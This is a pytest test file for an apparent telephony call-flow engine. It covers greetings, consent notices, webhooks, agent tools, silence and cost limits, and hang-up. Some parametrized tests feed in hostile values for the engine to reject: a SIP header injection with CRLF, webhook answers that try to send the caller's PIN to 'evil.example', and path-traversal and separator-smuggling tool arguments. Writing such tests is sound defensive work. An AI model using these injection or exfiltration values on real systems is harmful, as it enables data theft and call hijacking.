"""A call's life: opening, events, silence, limits, actions that fail, webhooks, tools, the end."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from telbridge.dialplan import orders
from telbridge.dialplan.engine import opening, preparing
from telbridge.dialplan.inputs import Done, Ended, Failed, Happened, Key, ToolCancelled
from tests.dialplan.line import Line, kinds, only, said
from tests.dialplan.support import NOW, facts, plan


class TestOpening:
    def test_caller_and_agent_hear_each_other_from_the_answer_on(self, tmp_path: Path) -> None:
        assert kinds(Line(plan(tmp_path, "")).all) == ["Connect"]

    def test_the_first_greeting_that_holds(self, tmp_path: Path) -> None:
        text = """
        zone = "Europe/Berlin"
        [[greeting]]
        when = "time.part == 'evening'"
        say = "Good evening."
        [[greeting]]
        when = "calls_before > 0"
        generate = "Welcome {{ caller }} back."
        [[greeting]]
        say = "Good day."
        """
        made = plan(tmp_path, text)
        assert made.opening(facts(), NOW).greeting_text == "Good day."
        assert made.opening(facts(calls_before=2), NOW).greeting_text == "Welcome +493012345 back."
        assert made.opening(facts(), NOW.replace(hour=19)).greeting_text == "Good evening."

    def test_a_notice_comes_before_the_agent(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, 'notice = "This call is recorded."'), slow=True)
        notice = only(line.all, orders.Say)
        assert (kinds(line.all), notice.barge_in) == (["Say"], False)
        assert kinds(line.done(notice)) == ["Connect"]

    def test_a_notice_that_wants_consent(self, tmp_path: Path) -> None:
        text = 'notice = { say = "Press 1 if you agree.", accept = "1", timeout_s = 5 }'
        line = Line(plan(tmp_path, text))
        assert line.key("2") == []
        assert kinds(line.key("1")) == ["Connect"]
        line = Line(plan(tmp_path, text))
        assert kinds(line.wait(6)) == ["HangUp"]

    def test_who_refuses_is_not_left_in_a_silent_call(self, tmp_path: Path) -> None:
        text = 'notice = { say = "Press 1.", accept = "1", timeout_s = 5, refused = { tag = "no" } }'
        assert kinds(Line(plan(tmp_path, text)).wait(6)) == ["Tag", "HangUp"]
        text = text.replace('{ tag = "no" }', '[{ tag = "not recorded" }, "connect"]')
        assert kinds(Line(plan(tmp_path, text)).wait(6)) == ["Tag", "Connect"]

    def test_an_agent_that_waits(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, 'agent_waits = true\nkeys.1 = "connect"'))
        assert line.all == []
        assert kinds(line.key("1")) == ["Connect"]
        assert line.key("1") == []

    def test_profiles_are_built_on(self, tmp_path: Path) -> None:
        text = """
        [profiles.house]
        agent = "openai_realtime"
        voice = "marin"
        turn_detection = { mode = "vad", silence_ms = 500 }
        openai_realtime = { speed = 1.1 }
        [profiles.german]
        extends = "house"
        language = "de"
        [session]
        extends = "german"
        turn_detection.silence_ms = 700
        instructions = "Be {{ 'awake' if time.hour < 12 else 'calm' }}."
        """
        wanted = plan(tmp_path, text).opening(facts(), NOW).wanted
        assert (wanted.agent, wanted.neutral.voice, wanted.neutral.language) == (
            "openai_realtime",
            "marin",
            "de",
        )
        assert wanted.neutral.turn_detection is not None
        assert (wanted.neutral.turn_detection.mode, wanted.neutral.turn_detection.silence_ms) == ("vad", 700)
        assert wanted.neutral.instructions == "Be awake."
        assert wanted.vendor == {"speed": 1.1}

    def test_a_template_cannot_break_a_call(self, tmp_path: Path) -> None:
        text = '[session]\nlanguage = "{{ headers.x_lang }}"\nvoice = "marin"'
        wanted = plan(tmp_path, text).opening(facts(headers={"X-Lang": "!!"}), NOW).wanted
        assert (wanted.left_out, wanted.neutral.voice) == (("language",), "marin")


class TestLookup:
    TEXT = """
    vars.tier = "none"
    on.ringing = [
      { webhook = "https://crm.example/who", as = "crm", on_error = { set.tier = "unknown" } },
      { set.tier = "{{ answers.crm.tier }}" },
    ]
    greeting = "Hello {{ answers.crm.name or 'there' }}."
    session.instructions = "The caller's tier is {{ vars.tier }}."
    """

    def test_the_session_knows_what_was_looked_up_while_it_rang(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT), answered=False)
        hook = only(line.event("ringing"), orders.CallWebhook)
        assert preparing(line.state)
        line.done(hook, {"name": "Ann", "tier": "gold"})
        assert not preparing(line.state)
        made = opening(line.plan, line.state, 0)
        assert made.greeting_text == "Hello Ann."
        assert made.wanted.neutral.instructions == "The caller's tier is gold."

    def test_a_server_that_does_not_answer_delays_it_for_a_bounded_time(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT), answered=False)
        line.event("ringing")
        line.wait(60)
        assert not preparing(line.state)
        assert opening(line.plan, line.state, 60_000_000_000).greeting_text == "Hello there."
        assert line.state.vars["tier"] == "unknown"

    def test_a_call_can_be_refused_while_it_rings(self, tmp_path: Path) -> None:
        text = 'on.ringing = { hangup = "busy", when = "calls_before > 9" }'
        line = Line(plan(tmp_path, text), facts(calls_before=10), answered=False)
        assert only(line.event("ringing"), orders.HangUp).cause == "busy"


class TestToolsOfNow:
    TEXT = """
    keys.1 = { update.tools = ["look", "refund"] }
    keys.2 = { switch_agent = "other" }
    session.tools = ["look"]
    profiles.other = { agent = "deepgram", tools = [] }
    tools.look = { description = "Looks.", do = { tag = "looked" } }
    tools.refund = { description = "Pays back.", do = { tag = "paid" } }
    """

    def test_a_session_names_its_tools(self, tmp_path: Path) -> None:
        wanted = plan(tmp_path, self.TEXT).opening(facts(), NOW).wanted
        assert [tool.name for tool in wanted.neutral.tools or ()] == ["look"]

    def test_a_tool_that_is_not_offered_cannot_be_called(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        assert only(line.tool("refund"), orders.ToolResult).failed
        update = only(line.key("1"), orders.Update)
        assert [tool.name for tool in update.wanted.neutral.tools or ()] == ["look", "refund"]
        assert only(line.tool("refund"), orders.Tag).text == "paid"

    def test_another_agent_has_its_own(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        line.done(only(line.key("2"), orders.SwitchAgent))
        assert only(line.tool("look"), orders.ToolResult).failed

    def test_the_old_agents_call_gets_no_result_from_the_new_one(self, tmp_path: Path) -> None:
        text = (
            self.TEXT.replace('["look"]', '["look", "slow"]')
            + """
        tools.slow = { description = "Slow.", http = "https://x.example/", timeout_s = 2 }
        """
        )
        line = Line(plan(tmp_path, text))
        request = only(line.tool("slow"), orders.CallHttp)
        line.done(only(line.key("2"), orders.SwitchAgent))
        assert line.done(request, {"x": 1}) == []
        assert line.wait(60) == []


class TestEvents:
    def test_all_rules_that_hold(self, tmp_path: Path) -> None:
        text = """
        on.hold = { tag = "held" }
        [[on.caller_said]]
        matches = "operator|human"
        once = true
        do = { tag = "human" }
        [[on.caller_said]]
        every = 2
        do = { tag = "{{ count }}: {{ text }}" }
        """
        line = Line(plan(tmp_path, text))
        assert kinds(line.event("hold")) == ["Tag"]
        first = line.event("caller_said", text="An OPERATOR, please")
        second = line.event("caller_said", text="human!")
        assert [one.text for one in first + second if isinstance(one, orders.Tag)] == ["human", "2: human!"]

    def test_events_of_a_context_come_first(self, tmp_path: Path) -> None:
        text = """
        start = "a"
        on.hold = { tag = "top" }
        contexts.a.on.hold = { tag = "context" }
        """
        found = Line(plan(tmp_path, text)).event("hold")
        assert [one.text for one in found if isinstance(one, orders.Tag)] == ["context", "top"]

    def test_an_unknown_event_is_nothing(self, tmp_path: Path) -> None:
        assert Line(plan(tmp_path, "")).event("earthquake") == []


class TestSilence:
    TEXT = """
    [[on.silence]]
    after_s = 8
    when = "count < 3"
    do = { say = "Still there?" }
    [[on.silence]]
    after_s = 8
    when = "count == 3"
    do = { hangup = "normal", last_words = "Good-bye." }
    """

    def test_again_and_again_then_the_end(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        assert said(line.wait(8.1)) == ["Still there?"]
        assert said(line.wait(8.1)) == ["Still there?"]
        assert only(line.wait(8.1), orders.HangUp).last_words == "Good-bye."

    def test_a_sign_of_the_caller_starts_it_anew(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        line.wait(16.2)
        line.event("caller_speaking")
        assert line.wait(60) == []
        line.event("caller_stopped")
        assert said(line.wait(8.1)) == ["Still there?"]

    def test_not_while_the_agent_speaks_or_the_caller_holds(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        line.event("agent_speaking")
        assert line.wait(30) == []
        line.event("hold")
        line.event("agent_stopped")
        assert line.wait(30) == []
        line.event("resume")
        assert said(line.wait(8.1)) == ["Still there?"]

    def test_it_counts_from_the_end_of_our_own_words(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT), slow=True)
        words = only(line.wait(8.1), orders.Say)
        assert line.wait(30) == []
        line.done(words)
        assert line.wait(7.9) == []
        assert kinds(line.wait(0.2)) == ["Say"]


class TestLimits:
    def test_a_warning_then_the_end(self, tmp_path: Path) -> None:
        text = (
            'limits = { duration_s = 100, warn_s = 20 }\non.limit_near = { say = "{{ left }} seconds left." }'
        )
        line = Line(plan(tmp_path, text))
        assert said(line.wait(81)) == ["20 seconds left."]
        assert only(line.wait(20), orders.HangUp).cause == "limit"

    def test_money_runs_by_the_price_of_each_agent(self, tmp_path: Path) -> None:
        text = """
        limits = { cost = 1.0, warn_s = 30, per_minute = { openai_realtime = 0.60, other = 0.30 } }
        keys.1 = { switch_agent = "deepgram" }
        on.limit_near = { tag = "{{ limit }} {{ left }} {{ cost }}" }
        """
        line = Line(plan(tmp_path, text))
        line.wait(50)
        line.done(only(line.key("1"), orders.SwitchAgent))  # Half is spent; 100 s are left at half the price.
        assert only(line.wait(71), orders.Tag).text == "cost 30 0.85"
        assert "HangUp" not in kinds(line.wait(28))
        assert only(line.wait(2), orders.HangUp).cause == "limit"


class TestLists:
    def test_what_takes_time_is_waited_for(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, 'keys.1 = [{ say = "Bye" }, "hangup"]'), slow=True)
        words = only(line.key("1"), orders.Say)
        assert kinds(line.done(words)) == ["HangUp"]

    def test_unless_it_says_otherwise(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, 'keys.1 = [{ say = "Music", wait = false }, { tag = "x" }]'), slow=True)
        assert kinds(line.key("1")) == ["Say", "Tag"]

    def test_on_error_takes_the_place_of_the_rest(self, tmp_path: Path) -> None:
        text = """
        [[keys.1]]
        do = [
          { transfer = "sip:desk@10.0.0.5", on_error = { say = "{{ action }}: {{ error }}" } },
          { tag = "never" },
        ]
        """
        line = Line(plan(tmp_path, text))
        found = line.fail(only(line.key("1"), orders.Transfer), "486 Busy Here")
        assert (kinds(found), said(found)) == (["Say"], ["transfer: 486 Busy Here"])

    def test_without_it_the_list_goes_on_and_the_error_is_an_event(self, tmp_path: Path) -> None:
        text = 'keys.1 = [{ say = "Bye" }, "hangup"]\non.error = { tag = "{{ action }}" }'
        line = Line(plan(tmp_path, text), slow=True)
        found = line.fail(only(line.key("1"), orders.Say))
        assert kinds(found) == ["Note", "Tag", "HangUp"]

    def test_an_order_that_nobody_waits_for_may_fail_later(self, tmp_path: Path) -> None:
        text = 'keys.1 = [{ update.instructions = "x", on_error = { tag = "refused" } }, "reply"]'
        line = Line(plan(tmp_path, text))
        update = only(line.key("1"), orders.Update)
        assert only(line.fail(update, "locked"), orders.Tag).text == "refused"

    def test_an_order_that_is_never_answered_fails_in_its_time(self, tmp_path: Path) -> None:
        hook = '{ webhook = "https://x.example/", timeout_s = 2, retries = 0, on_error = { tag = "late" } }'
        text = f"keys.1 = {hook}"
        line = Line(plan(tmp_path, text))
        line.key("1")
        assert only(line.wait(60), orders.Tag).text == "late"

    def test_conditions_variables_and_stop(self, tmp_path: Path) -> None:
        text = """
        vars.times = 0
        [[keys.1]]
        do = [
          { set.times = "{{ vars.times + 1 }}" },
          { tag = "{{ vars.times }}", when = "vars.times >= 2" },
          { stop = true, when = "vars.times == 2" },
          { tag = "end" },
        ]
        """
        line = Line(plan(tmp_path, text))
        found = line.key("111", pause_s=1)
        assert [one.text for one in found if isinstance(one, orders.Tag)] == ["end", "2", "3", "end"]

    @pytest.mark.parametrize("target", ["sip:a b@x", "sip:x@y\r\nEvil: 1", "", "<sip:x>"])
    def test_what_is_no_address_is_not_dialled(self, tmp_path: Path, target: str) -> None:
        text = 'keys.1 = { transfer = "{{ headers.x_to }}", on_error = { tag = "no" } }'
        line = Line(plan(tmp_path, text), facts(headers={"X-To": target}))
        assert kinds(line.key("1")) == ["Tag"]


class TestWebhooks:
    TEXT = """
    vars.name = ""
    [[keys.1]]
    do = [
      { webhook = "https://crm.example/{{ caller }}", send.at = "{{ time.clock }}", as = "crm",
        on_error = { tag = "sorry" } },
      { tag = "{{ answers.crm.plan.name }} {{ vars.name }}" },
    ]
    """.replace(",\n        on_error", ", on_error")

    def test_its_answer_is_known_kept_and_done(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        hook = only(line.key("1"), orders.CallWebhook)
        assert hook.url == "https://crm.example/%2B493012345"
        assert hook.body["at"] == "10:30"
        answer = {
            "plan": {"name": "gold"},
            "set": {"name": "Ann"},
            "actions": [{"say": "Hello {{ vars.name }}"}, "reply"],
        }
        found = line.done(hook, answer)
        assert (kinds(found), said(found)) == (["Say", "Tag", "Reply"], ["Hello Ann"]) or kinds(found) == [
            "Say", "Reply", "Tag",
        ]  # fmt: skip
        assert only(found, orders.Tag).text == "gold Ann"

    @pytest.mark.parametrize(
        "actions",
        [
            [{"sya": "x"}],
            "dance",
            [{"say": "{{ a. }}"}],
            [{"webhook": "https://evil.example", "send": {"x": "{{ digits.pin }}"}, "reveal": ["pin"]}],
            [{"say": "x", "on_error": {"webhook": "https://evil.example", "reveal": ["pin"]}}],
        ],
    )
    def test_actions_that_are_wrong_are_an_error(self, tmp_path: Path, actions: object) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        hook = only(line.key("1"), orders.CallWebhook)
        assert only(line.done(hook, {"actions": actions}), orders.Tag).text == "sorry"

    def test_answers_cannot_lead_on_for_ever(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, 'keys.1 = { webhook = "https://x.example/" }'))
        found = line.key("1")
        for _ in range(20):
            hooks = [one for one in found if isinstance(one, orders.CallWebhook)]
            if not hooks:
                return
            found = line.done(hooks[0], {"actions": [{"webhook": "https://x.example/"}]})
        pytest.fail("endless")

    def test_a_context_that_does_not_exist_is_an_error(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        hook = only(line.key("1"), orders.CallWebhook)
        assert "Note" in kinds(line.done(hook, {"actions": [{"goto": "nowhere"}]}))


class TestTools:
    TEXT = """
    vars.city = ""
    [tools.connect_me]
    description = "d"
    use = "transfer"
    to.desk = "sip:desk@10.0.0.5"
    [tools.bye]
    description = "d"
    use = "hangup"
    [tools.account]
    description = "d"
    use = "collect_digits"
    ask = { collect = "account", prompt = "Number?", max = 3 }
    [tools.keep]
    description = "d"
    use = "set_variable"
    variables = ["city"]
    [tools.who]
    description = "d"
    use = "get_caller"
    [tools.keys]
    description = "d"
    use = "send_dtmf"
    [tools.order]
    description = "d"
    parameters.number = { type = "string" }
    http = "https://shop.example/{{ arguments.number }}"
    filler = "One moment."
    [tools.slow]
    description = "d"
    python = "shop.tools:slow"
    timeout_s = 3
    [tools.note]
    description = "d"
    parameters.text = { type = "string" }
    do = { tag = "{{ arguments.text }}" }
    result = "noted {{ arguments.text }}"
    """

    @pytest.fixture
    def line(self, tmp_path: Path) -> Line:
        return Line(plan(tmp_path, self.TEXT))

    def test_the_agent_sees_them(self, line: Line) -> None:
        tools = line.plan.opening(facts(), NOW).wanted.neutral.tools
        assert tools is not None
        assert [tool.name for tool in tools][:2] == ["connect_me", "bye"]
        assert tools[0].parameters["properties"]["to"]["enum"] == ["desk"]

    def test_transfer(self, line: Line) -> None:
        transfer = only(line.tool("connect_me", '{"to": "desk"}'), orders.Transfer)
        assert transfer.target == "sip:desk@10.0.0.5"
        assert only(line.fail(transfer), orders.ToolResult).failed

    def test_hang_up_lets_the_agent_say_goodbye(self, line: Line) -> None:
        found = line.tool("bye")
        assert kinds(found) == ["ToolResult", "HangUp"]
        assert only(found, orders.HangUp).after_agent

    def test_digits(self, line: Line) -> None:
        assert said(line.tool("account")) == ["Number?"]
        assert json.loads(only(line.key("123"), orders.ToolResult).output) == {"digits": "123"}

    def test_a_variable(self, line: Line) -> None:
        assert not only(line.tool("keep", '{"name": "city", "value": "Bonn"}'), orders.ToolResult).failed
        assert line.state.vars["city"] == "Bonn"

    def test_the_caller(self, line: Line) -> None:
        assert json.loads(only(line.tool("who"), orders.ToolResult).output)["caller"] == "+493012345"

    def test_keys(self, line: Line) -> None:
        keys = only(line.tool("keys", '{"digits": "12#"}'), orders.SendDtmf)
        assert kinds(line.done(keys)) == ["ToolResult"]

    def test_http_with_a_filler(self, line: Line) -> None:
        found = line.tool("order", '{"number": "7/../x"}')
        assert said(found) == ["One moment."]
        request = only(found, orders.CallHttp)
        assert (request.method, request.url) == ("GET", "https://shop.example/7%2F..%2Fx")
        assert only(line.done(request, {"state": "sent"}), orders.ToolResult).output == '{"state": "sent"}'

    def test_python_that_does_not_come_back(self, line: Line) -> None:
        line.tool("slow")
        assert only(line.wait(20), orders.ToolResult).failed

    def test_actions(self, line: Line) -> None:
        found = line.tool("note", '{"text": "blue"}')
        assert only(found, orders.Tag).text == "blue"
        assert only(found, orders.ToolResult).output == "noted blue"

    @pytest.mark.parametrize(
        ("name", "arguments"),
        [
            ("nothing", "{}"), ("order", "{}"), ("order", "[]"), ("order", "{"), ("order", '{"number": 7}'),
            ("connect_me", '{"to": "mars"}'), ("keep", '{"name": "pin", "value": "1"}'),
            ("keys", '{"digits": "1;2"}'),
        ],
    )  # fmt: skip
    def test_what_the_agent_got_wrong_it_is_told(self, line: Line, name: str, arguments: str) -> None:
        found = line.tool(name, arguments)
        assert kinds(found) == ["ToolResult"]
        assert only(found, orders.ToolResult).failed

    def test_a_cancelled_call_gets_no_result(self, line: Line) -> None:
        request = only(line.tool("order", '{"number": "7"}'), orders.CallHttp)
        line.put(ToolCancelled("t1"))
        assert line.done(request, {}) == []


class TestTheEnd:
    TEXT = """
    keys.1 = [{ hangup = "busy", last_words = "Bye." }]
    on.hangup = [{ webhook = "https://x.example/", send.cause = "{{ cause }}" }, { tag = "done" }]
    on.silence = { after_s = 1, do = "reply" }
    """

    def test_nothing_after_hang_up(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        assert only(line.key("1"), orders.HangUp).cause == "busy"
        assert line.key("1") == []
        assert line.wait(60) == []
        assert line.event("caller_speaking") == []

    def test_but_what_on_hangup_says_once(self, tmp_path: Path) -> None:
        line = Line(plan(tmp_path, self.TEXT))
        line.key("1")
        found = line.hang_up("caller_hung_up")
        assert kinds(found) == ["CallWebhook", "Tag"]
        assert only(found, orders.CallWebhook).body["cause"] == "caller_hung_up"
        assert line.hang_up() == []
        assert line.put(Done(1)) == line.put(Failed(1, "x")) == line.put(Key("1")) == []
        assert line.put(Happened("answered")) == line.put(Ended()) == []
        assert line.state.deadline_ns is None
